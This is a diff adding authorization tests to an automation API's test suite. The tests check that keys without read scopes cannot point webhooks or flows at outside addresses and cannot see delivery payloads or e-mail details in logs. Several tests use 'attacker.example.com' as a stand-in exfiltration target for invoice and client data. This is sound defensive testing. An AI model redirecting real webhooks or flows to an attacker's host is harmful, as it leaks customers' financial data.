@@ -108,7 +108,7 @@ describe('flows act with the scopes they were given', () => {
     expect(simulated.body.status).toBe('completed');
     expect((await org.api.get(`/api/v1/invoices/${target.id}/`)).body.status).toBe('sent');
 
-    const enough = await keyWith('flows:write', 'invoices:write', 'tasks:write');
+    const enough = await keyWith('flows:write', 'invoices:write', 'tasks:write', 'clients:read');
     const allowed = await enough.post(`/api/automation/flows/${flow.id}/run/`, { context: { invoice: { id: target.id } }, live: true });
     expect(allowed.body.status).toBe('completed');
     expect((await org.api.get(`/api/v1/invoices/${target.id}/`)).body.status).toBe('cancelled');
@@ -175,6 +175,49 @@ describe('webhook subscriptions and scopes', () => {
     expect((await reader.post('/api/automation/webhooks/', { url, event: 'INVOICE_CREATED' })).status).toBe(201);
     expect((await org.api.post('/api/automation/webhooks/', { url, event: '*' })).status).toBe(201);
   });
+
+  it("refuse a new address for events the key cannot read, and show their deliveries' payloads only to readers", async () => {
+    const hook = (await org.api.post('/api/automation/webhooks/', { url: 'https://hooks.example.com/invoices', event: 'INVOICE_CREATED' }))
+      .body;
+    const hooksOnly = await keyWith('webhooks:write', 'webhooks:read');
+    const moved = await hooksOnly.patch(`/api/automation/webhooks/${hook.id}/`, { url: 'https://attacker.example.com/' });
+    expect(moved.status).toBe(403);
+    expect(moved.body.detail).toContain('invoices:read');
+    expect((await org.api.get(`/api/automation/webhooks/${hook.id}/`)).body.url).toBe('https://hooks.example.com/invoices');
+    // Changes that send nothing elsewhere stay the key's to make.
+    expect((await hooksOnly.patch(`/api/automation/webhooks/${hook.id}/`, { description: 'invoices out' })).status).toBe(200);
+
+    const client = (await org.api.post('/api/v1/clients/', { name: `Payload ${Date.now()}` })).body;
+    await org.api.post('/api/v1/invoices/', { client_id: client.id, items: [{ description: 'Secret work', unit_price: '1' }] });
+    const deliveries = await until(
+      () => hooksOnly.get(`/api/automation/webhooks/${hook.id}/deliveries/`),
+      (res) => res.body.count > 0,
+      'a delivery to list',
+    );
+    expect(deliveries.body.results[0].payload).toEqual({ withheld: 'needs invoices:read' });
+    expect(JSON.stringify(deliveries.body)).not.toContain('Secret work');
+    const full = (await org.api.get(`/api/automation/webhooks/${hook.id}/deliveries/`)).body.results[0];
+    expect(full.payload).toMatchObject({ type: 'INVOICE_CREATED' });
+    await org.api.delete(`/api/automation/webhooks/${hook.id}/`);
+  });
+});
+
+describe('flows and the data their triggers carry', () => {
+  it('refuse an active flow whose trigger carries data the saver cannot read', async () => {
+    const platformOnly = await keyWith('flows:write', 'webhooks:write');
+    const graph = {
+      nodes: [node('t', 'trigger.invoice_created'), node('out', 'send_to_platform', { url: 'https://attacker.example.com/' })],
+      connections: [link('t', 'out')],
+    };
+    const active = await platformOnly.post('/api/automation/flows/', { name: 'Out', mode: 'automation', graph, is_active: true });
+    expect(active.status).toBe(403);
+    expect(active.body.detail).toContain('invoices:read');
+    expect(active.body.detail).toContain('clients:read');
+    const reader = await keyWith('flows:write', 'webhooks:write', 'invoices:read', 'clients:read');
+    const allowed = await reader.post('/api/automation/flows/', { name: 'Out', mode: 'automation', graph, is_active: true });
+    expect(allowed.status).toBe(201);
+    await org.api.patch(`/api/automation/flows/${allowed.body.id}/`, { is_active: false });
+  });
 });
 
 describe('the audit log and scopes', () => {
@@ -196,5 +239,20 @@ describe('the audit log and scopes', () => {
     const everything = (await org.api.get(`/api/automation/logs/?search=${encodeURIComponent(secretName)}`)).body;
     expect(everything.count).toBeGreaterThan(0);
     expect(JSON.stringify(everything.results[0])).toContain(secretName);
+  });
+
+  it("withholds an e-mail's address and subject too from a key that cannot read everything", async () => {
+    const graph = {
+      nodes: [node('t', 'trigger.client_created'), node('mail', 'send_email', { to: 'ap@secret-client.test', subject: 'Secret subject' })],
+      connections: [link('t', 'mail')],
+    };
+    const flow = (await org.api.post('/api/automation/flows/', { name: 'Mail', mode: 'automation', graph })).body;
+    expect((await org.api.post(`/api/automation/flows/${flow.id}/run/`, { context: {}, live: true })).body.status).toBe('completed');
+    await kontor.audit.flush();
+    const logsOnly = await keyWith('logs:read');
+    const mails = (await logsOnly.get('/api/automation/logs/?kind=email&page_size=50')).body.results;
+    expect(mails.length).toBeGreaterThan(0);
+    expect(JSON.stringify(mails)).not.toMatch(/secret-client|Secret subject/);
+    expect(mails[0].url).toBe('mailto:[withheld]');
   });
 });
